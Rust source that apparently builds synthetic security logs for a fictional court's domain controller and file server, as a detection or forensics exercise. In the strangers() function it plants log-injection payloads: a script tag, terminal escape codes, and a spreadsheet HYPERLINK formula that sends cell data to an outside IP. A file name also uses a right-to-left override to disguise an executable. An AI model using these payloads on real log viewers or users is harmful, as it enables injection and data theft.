//! What do the domain controller and the file server log on ordinary days?
//!
//! Tickets, logons, shares and files of six people, the machines, the backup and the directory
//! synchronisation. Look-alikes among it: a scanner that still asks for RC4 tickets, a
//! synchronisation that replicates secrets, an administrator who installs a service remotely,
//! and the witness section itself, which reads its own files all day.

use super::cast::{
    ADM_KETTERMOLE, ADM_WS01, ANA_WS03, ARRENBY, Account, BACKUP01, DC01, DIRSYNC, DMS01, HADWIN, HR_WS02,
    Host, KESSANDOR, KETTERMOLE, LEG_WS11, LEG_WS12, LEGAL_FS01, PRT01, QUILLARIS, REG_WS07, STAFF,
    SVC_BACKUP, SVC_DMS, SVC_SCAN, SYNC01, VANTORP,
};
use super::clock::{HOUR, MINUTE, SECOND, at};
use super::dice::Dice;
use super::scene::Scene;
use super::security::{self, Presence};
use super::{system, work};

/// Share name and local path, as share events have them.
pub(super) const CASES: (&str, &str) = ("\\\\*\\Cases$", "\\??\\D:\\Cases");
pub(super) const REGISTRY: (&str, &str) = ("\\\\*\\Registry$", "\\??\\D:\\Registry");
pub(super) const IPC: (&str, &str) = ("\\\\*\\IPC$", "");
pub(super) const ADMIN: (&str, &str) = ("\\\\*\\ADMIN$", "\\??\\C:\\Windows");
pub(super) const DRIVE_C: (&str, &str) = ("\\\\*\\C$", "\\??\\C:\\");

/// The two rights that together replicate a domain's secrets.
pub(super) const GET_CHANGES: &str = "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}";
pub(super) const GET_CHANGES_ALL: &str = "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}";

const READ: u32 = 0x1;
const READ_ATTRIBUTES: u32 = 0x80;
const READ_WRITE: u32 = 0x12_019F;

/// The 18 files of the protected witnesses, below `D:\Cases`.
pub(super) fn witness_files() -> Vec<String> {
    let witnesses = [117, 204, 231, 288, 305, 342];
    let papers = ["statement.docx", "risk-assessment.docx", "relocation-plan.pdf"];
    witnesses
        .iter()
        .flat_map(|number| papers.map(|paper| format!("Witness-Protection\\WP-{number:04}\\{paper}")))
        .collect()
}

/// What someone has to do on the file server.
fn files_of(account: Account) -> ((&'static str, &'static str), Vec<String>) {
    let list = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
    match account {
        QUILLARIS => (CASES, witness_files()),
        KESSANDOR => {
            let names = ["brief-draft.docx", "annex-b.pdf", "exhibits.xlsx", "Witness\u{202E}fdp.exe.lnk"];
            (CASES, names.map(|name| format!("Case-2024-03\\Briefs\\{name}")).to_vec())
        }
        ARRENBY => {
            (CASES, list(&["Case-2024-03\\Analysis\\chronology.xlsx", "Case-2024-03\\Analysis\\map.pdf"]))
        }
        VANTORP => (
            REGISTRY,
            list(&[
                "Filings\\receipt.docx",
                "Lists\\filings-2026.xlsx",
                "Filings\\2026-0914-01.pdf",
                "Stamps\\stamp.png",
            ]),
        ),
        _ => (REGISTRY, list(&["Lists\\staff-on-leave.xlsx", "Lists\\phone-list.pdf"])),
    }
}

/// One visit to the file server: a logon, a share, some files, and off again.
fn visit_files(scene: &mut Scene, (account, from): (Account, Host), start: i64, id: u64, dice: &mut Dice) {
    let port = dice.between(49_200, 65_000) as u16;
    let who = Presence::network(account, id, from.address, port);
    let (share, files) = files_of(account);
    scene.add(LEGAL_FS01, security::logon(start, LEGAL_FS01, &who));
    scene.add(LEGAL_FS01, security::share(start + 35, &who, share.0, share.1));
    let mut now = start + 60;
    for _ in 0..dice.between(2, 5) {
        let file = dice.pick(&files);
        let mask = if dice.chance(30) { READ_WRITE } else { READ_ATTRIBUTES | READ };
        scene.add(LEGAL_FS01, security::share_file(now, &who, share, file, mask));
        let local = format!("{}\\{file}", share.1.trim_start_matches("\\??\\"));
        let used = security::access(if mask == READ_WRITE { 0x2 } else { 0x1 });
        // Over the network the kernel itself opens the file: process 4 without a name.
        scene.add(LEGAL_FS01, security::file_used(now + 12, &who, &local, used, (4, "")));
        now += dice.between(4, 140) * SECOND;
    }
    scene.add(LEGAL_FS01, security::logoff(now + dice.between(60, 900) * SECOND, &who));
}

/// The working days of the file server.
pub(super) fn file_server(scene: &mut Scene) {
    let mut dice = Dice::named("LEGAL-FS01");
    let mut id = 0x4a_1000_u64;
    for day in 14..=16 {
        for who in STAFF.iter().filter(|(account, _)| *account != KETTERMOLE) {
            let visits = if who.0 == QUILLARIS { 5 } else { 3 };
            for visit in 0..visits {
                id += 0x3b7 + dice.next() % 0x4000;
                let start = at(day, "07:10:00") + visit * (100 * MINUTE) + dice.between(0, 80) * MINUTE;
                visit_files(scene, *who, start + dice.between(0, 59_999), id, &mut dice);
            }
        }
        id += 0x9_1a3;
        back_up(scene, day, id);
        work::system_log(scene, LEGAL_FS01, day, &mut dice);
    }
    install_agent(scene, id + 0x8_0000);
}

/// The nightly backup reads everything, and may.
fn back_up(scene: &mut Scene, day: i64, id: u64) {
    let start = at(day, "21:00:07");
    let who = Presence { elevated: true, ..Presence::network(SVC_BACKUP, id, BACKUP01.address, 51_044) };
    scene.add(LEGAL_FS01, security::logon(start, LEGAL_FS01, &who));
    scene.add(LEGAL_FS01, security::special(start + 1, &who));
    let agent = "C:\\Program Files\\Kestrel Backup\\kestrelagent.exe";
    for (index, file) in (0..).zip(witness_files()) {
        let path = format!("D:\\Cases\\{file}");
        let when = start + 3 * SECOND + index * 700;
        scene.add(LEGAL_FS01, security::file_used(when, &who, &path, security::access(READ), (2816, agent)));
    }
    scene.add(LEGAL_FS01, security::logoff(start + 25 * MINUTE, &who));
}

/// The administrator installs the inventory agent from his own workstation, by daylight.
fn install_agent(scene: &mut Scene, id: u64) {
    let when = at(14, "12:10:44.120");
    let who = Presence::network(ADM_KETTERMOLE, id, ADM_WS01.address, 50_871);
    let path = "\"C:\\Program Files\\Court Inventory\\invagent.exe\" --service";
    scene.add(LEGAL_FS01, security::logon(when, LEGAL_FS01, &who));
    scene.add(LEGAL_FS01, security::special(when + 1, &who));
    scene.add(LEGAL_FS01, security::share(when + 40, &who, IPC.0, IPC.1));
    scene.add(LEGAL_FS01, security::share_file(when + 48, &who, IPC, "svcctl", READ_WRITE));
    scene.add(LEGAL_FS01, security::service_installed(when + 400, &who, "CourtInventoryAgent", path));
    scene.add(LEGAL_FS01, system::service_installed(when + 401, ADM_KETTERMOLE, "CourtInventoryAgent", path));
    scene.add(LEGAL_FS01, security::logoff(when + 3 * MINUTE, &who));
}

// ---- domain controller ----------------------------------------------------------------------

/// The working days of the domain controller.
pub(super) fn domain_controller(scene: &mut Scene) {
    let mut dice = Dice::named("DC01");
    let mut id = 0x7f_2000_u64;
    let mut next_id = move |dice: &mut Dice| {
        id += 0x211 + dice.next() % 0x2000;
        id
    };
    for day in 14..=16 {
        for (account, host) in STAFF {
            let morning = at(day, "06:30:00") + dice.between(0, 55) * MINUTE + dice.between(0, 59_999);
            person(scene, (account, host), morning, &mut dice, &mut next_id);
        }
        machines(scene, day, &mut dice);
        scanner(scene, day, &mut dice);
        synchronise(scene, day, next_id(&mut dice));
        administer(scene, day, next_id(&mut dice));
    }
    enrol(scene);
    mistyped(scene);
    strangers(scene);
}

/// One person's day: a ticket in the morning, tickets for services, group policy.
fn person(
    scene: &mut Scene,
    (account, host): (Account, Host),
    morning: i64,
    dice: &mut Dice,
    next_id: &mut impl FnMut(&mut Dice) -> u64,
) {
    scene.add(DC01, security::ticket_granted(morning, account, host.address, None));
    let services = [host.account, LEGAL_FS01.account, DC01.account, DMS01.account, SVC_DMS];
    for hour in 0..7 {
        let when = morning + hour * HOUR + dice.between(1, 3000) * SECOND;
        let service = *dice.pick(&services);
        scene.add(DC01, security::service_ticket(when, account, service, host.address, 0x12));
        if hour % 3 == 0 {
            let who =
                Presence::network(account, next_id(dice), host.address, dice.between(49_200, 65_000) as u16);
            scene.add(DC01, security::logon(when + 40, DC01, &who));
            scene.add(DC01, security::logoff(when + 40 + dice.between(8, 300) * SECOND, &who));
        }
    }
}

/// The machines renew their tickets, day and night.
fn machines(scene: &mut Scene, day: i64, dice: &mut Dice) {
    let hosts = [REG_WS07, HR_WS02, LEG_WS11, LEG_WS12, ANA_WS03, ADM_WS01, LEGAL_FS01, DMS01, BACKUP01];
    for host in hosts {
        for hour in [2, 12, 19] {
            let when =
                at(day, "00:00:00") + hour * HOUR + dice.between(0, 3599) * SECOND + dice.between(0, 999);
            scene.add(DC01, security::ticket_granted(when, host.account, host.address, None));
            scene.add(
                DC01,
                security::service_ticket(when + 12, host.account, DC01.account, host.address, 0x12),
            );
        }
    }
}

/// The old scanner knows neither AES nor Kerberos proper.
fn scanner(scene: &mut Scene, day: i64, dice: &mut Dice) {
    for hour in [7, 9, 11, 13] {
        let when = at(day, "00:00:00") + hour * HOUR + dice.between(0, 3599) * SECOND;
        scene.add(DC01, security::ntlm_checked(when, SVC_SCAN.name, PRT01.name, 0));
    }
    let when = at(day, "08:14:00") + dice.between(0, 600) * SECOND;
    scene.add(DC01, security::service_ticket(when, SVC_SCAN, LEGAL_FS01.account, PRT01.address, 0x17));
}

/// The directory synchronisation replicates every six hours.
fn synchronise(scene: &mut Scene, day: i64, id: u64) {
    for (run, hour) in [(0, 3), (1, 9), (2, 15), (3, 21)] {
        let when = at(day, "00:31:02.400") + hour * HOUR;
        let who = Presence {
            elevated: true,
            ..Presence::network(DIRSYNC, id + run * 0x77, SYNC01.address, 50_212)
        };
        scene.add(DC01, security::logon(when, DC01, &who));
        scene.add(DC01, security::replicated(when + 210, &who, GET_CHANGES));
        scene.add(DC01, security::replicated(when + 216, &who, GET_CHANGES_ALL));
        scene.add(DC01, security::logoff(when + 40 * SECOND, &who));
    }
}

/// The administrator looks after the directory from his workstation.
fn administer(scene: &mut Scene, day: i64, id: u64) {
    let when = at(day, "08:47:31.300");
    let who = Presence::network(ADM_KETTERMOLE, id, ADM_WS01.address, 52_330);
    scene.add(DC01, security::ticket_granted(when - 9 * SECOND, ADM_KETTERMOLE, ADM_WS01.address, None));
    scene.add(DC01, security::logon(when, DC01, &who));
    scene.add(DC01, security::special(when + 1, &who));
    scene.add(DC01, security::logoff(when + 26 * MINUTE, &who));
}

/// Certificates that machines ask for by themselves; DC01 is the certification authority too.
fn enrol(scene: &mut Scene) {
    for (number, (host, day)) in (4101..).zip([(REG_WS07, 14), (LEG_WS12, 14), (DMS01, 15), (HR_WS02, 16)]) {
        let when = at(day, "05:02:11") + i64::from(number % 7) * 11 * MINUTE;
        let attributes = format!(
            "CertificateTemplate:Machine\nccm:{0}\ncdc:DC01.court.example\nrmd:{0}",
            host.full_name()
        );
        let subject = format!("CN={}", host.full_name());
        scene.add_all(DC01, security::certificate(when, number, host.account, &attributes, &subject));
    }
}

/// Passwords mistyped before they are right.
fn mistyped(scene: &mut Scene) {
    for (account, host, when) in [
        (ARRENBY, ANA_WS03, at(14, "06:58:03.220")),
        (HADWIN, HR_WS02, at(15, "07:00:41.900")),
        (HADWIN, HR_WS02, at(15, "07:00:55.010")),
        (KESSANDOR, LEG_WS12, at(16, "06:44:17.700")),
    ] {
        scene.add(DC01, security::pre_auth_failed(when, account, host.address));
    }
}

/// Guesses from outside against the mail gateway, with names that are meant for those who read
/// the log in a browser, a terminal or a spreadsheet.
fn strangers(scene: &mut Scene) {
    let guesses = [
        ("administrator", "WORKSTATION"),
        ("<script>alert('court')</script>", "WORKSTATION"),
        ("\u{1b}[31mroot\u{1b}[0m", "kali"),
        ("backup", "=HYPERLINK(\"http://203.0.113.77/?h=\"&A1;\"WIN-PC\")"),
    ];
    for (index, (account, workstation)) in (0..).zip(guesses) {
        let when = at(14, "03:17:20.300") + index * 4700;
        scene.add(DC01, security::ntlm_checked(when, account, workstation, 0xC000_0064));
        scene.add(DC01, security::logon_failed(when + 3, account, workstation, "192.0.2.199"));
    }
}
